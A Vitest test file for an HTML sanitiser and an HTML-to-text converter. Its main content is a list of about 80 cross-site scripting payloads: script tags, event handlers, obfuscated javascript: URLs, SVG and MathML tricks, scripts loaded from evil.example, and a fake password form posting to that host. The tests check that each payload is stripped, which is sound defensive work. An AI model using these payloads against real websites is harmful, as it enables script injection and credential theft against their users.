import { expect, test } from 'vitest'
import { htmlText } from '#service/channels/import/html-text.ts'
import { safeHtml } from '#service/channels/import/safe-html.ts'

// From public collections of cross-site scripting vectors, each a way past a filter that once worked somewhere.
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script\x20type="text/javascript">javascript:alert(1);</script>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="https://evil.example/a 1x" src=http://evil.example/b>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=https://evil.example></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<applet code=x></applet>',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1);">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<p style="position:fixed;inset:0;background:white">Your session ended</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/sign-out">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example" onclick=alert(1) onmouseover="alert(1)">x</a>',
  '<a href="https://ok.example" target=_top ping="https://evil.example" download>x</a>',
  '<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  "<a href='https://ok.example/\"><script>alert(1)</script>'>x</a>",
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><option><script>alert(1)</script></option></select>',
  '<video poster="javascript:alert(1)"><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--[if gte IE 4]><script>alert(1);</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onload=alert(1)>',
  '<p id="root" class="dialog" name=body>x</p>',
  '<p onclick=alert(1)//x<p>x',
  '<a><img src=https://pixel.example/seen.gif></a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  `${'<div>'.repeat(5000)}x`,
  '<x-frame onload=alert(1) is=script>x</x-frame>',
]

const allowed =
  /^<\/?(?:p|div|br|hr|blockquote|pre|code|b|strong|i|em|u|s|sub|sup|ul|ol|li|dl|dt|dd|h[1-6]|table|thead|tbody|tr|th|td|a)(?: \/)?>$/
const link = /^<a href="(?:https?:\/\/|mailto:)[^"<>]*">$/

// Catches: any tag, attribute or address in the output that is not on the short list, whatever trick let it through.
test.each(attacks)('nothing that can run, load or pretend is left of %j', (attack) => {
  const safe = safeHtml(attack)
  for (const tag of safe.match(/<[^>]*>?/g) ?? []) expect(allowed.test(tag) || link.test(tag) ? '' : tag).toBe('')
  expect(safe.replaceAll(/<[^>]*>/g, '')).not.toMatch(/[<]/)
  expect(safeHtml(safe)).toBe(safe)
})

// Catches: a cleaner that throws away what people wrote.
test('what people format is kept', () => {
  const html =
    '<p>One <strong>two</strong><br />three</p><ul><li>a</li><li><a href="https://example.com/?a=1&amp;b=2">b</a></li></ul>'
  expect(safeHtml(html)).toBe(html)
  expect(safeHtml('<p><span class="x">kept</span> <center>too</center></p>')).toBe('<p>kept too</p>')
})

// Catches: a picture that tells its owner who opened the case; one inside a link that breaks the link.
test('a picture becomes a link that says what it shows', () => {
  expect(safeHtml('<img src="https://example.com/a.png" alt="The screen">')).toBe(
    '<a href="https://example.com/a.png">Image: The screen</a>',
  )
  expect(safeHtml('<img src="http://example.com/a.png">')).toBe('<a>Image</a>')
  expect(safeHtml('<a href="https://example.com"><img src="https://example.com/a.png" alt="x"></a>')).toBe(
    '<a href="https://example.com">Image: x</a>',
  )
})

// Catches: text forms in which paragraphs, lists, quotes and addresses run together.
test.each([
  ['<p>One</p><p>Two<br />three</p>', 'One\n\nTwo\nthree'],
  ['<ul><li>a</li><li><p>b</p><ol><li>c</li><li>d</li></ol></li></ul><p>e</p>', '- a\n- b\n  1. c\n  2. d\n\ne'],
  ['<p>See <a href="https://example.com/x">this page</a>.</p>', 'See this page (https://example.com/x).'],
  ['<a href="https://example.com">https://example.com</a>', 'https://example.com'],
  ['<a href="mailto:a@example.com">a@example.com</a>', 'a@example.com'],
  ['<blockquote><p>He said</p><p>so</p></blockquote><p>No</p>', '> He said\n\n> so\n\nNo'],
  ['<pre>a\n  b\n\nc</pre>', 'a\n  b\n\nc'],
  ['<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>', '1 < 2 && 3 > 2'],
  ['<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>', 'a | b |\n1 | 2 |'],
  ['<p>  spaces \n and\u00a0 lines </p>', 'spaces and lines'],
])('%j reads as %j', (html, text) => {
  expect(htmlText(safeHtml(html))).toBe(text)
})
